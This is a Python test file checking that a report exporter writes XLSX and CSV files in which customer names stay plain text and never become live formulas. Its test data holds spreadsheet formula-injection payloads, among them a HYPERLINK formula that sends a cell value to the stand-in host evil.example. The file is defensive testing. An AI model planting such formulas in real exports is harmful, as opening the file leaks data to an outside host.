"""Exports never carry a live formula: a customer named =HYPERLINK(...) stays text in XLSX and
CSV, while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from schema.reports.exports import to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A4,"点击查看")', "+1+2", "-3+4", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]
GRID: list[list[Any]] = [["客户销售分析表"], ["2026"], ["客户", "金额"],
        *[[name, Decimal("1.0000")] for name in HOSTILE],
        ["正常客户", Decimal("-5.0000")]]


def test_xlsx_cells_hold_the_text_and_no_formula() -> None:
    data = to_xlsx(GRID, "表", "0.0000")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    names = [ws.cell(row=4 + i, column=1) for i in range(len(HOSTILE))]
    # XML reads a carriage return back as a line feed; the text is otherwise the same.
    assert [c.value for c in names] == [h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.data_type == "s" for c in names)
    assert ws.cell(row=4 + len(HOSTILE), column=2).value == Decimal("-5") or \
        ws.cell(row=4 + len(HOSTILE), column=2).value == -5


@pytest.mark.parametrize("index", range(len(HOSTILE)))
def test_csv_text_that_would_start_a_formula_is_quoted(index: int) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(GRID).lstrip("\ufeff"))))
    assert rows[3 + index][0] == "'" + HOSTILE[index]


def test_csv_numbers_and_plain_text_are_unchanged() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(GRID).lstrip("\ufeff"))))
    assert rows[-1] == ["正常客户", "-5.0000"]
    assert rows[0] == ["客户销售分析表"]
